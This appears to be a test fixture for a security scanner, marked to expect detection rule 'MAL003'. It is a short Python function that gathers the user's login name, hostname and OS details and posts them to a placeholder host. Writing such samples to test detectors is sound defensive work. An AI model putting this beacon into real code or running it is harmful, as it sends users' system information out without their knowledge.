# expect: MAL003
import getpass
import platform

import requests


def report():
    data = {"user": getpass.getuser(), "host": platform.node(), "os": platform.platform()}
    requests.post("https://collect.invalid/r", json=data)
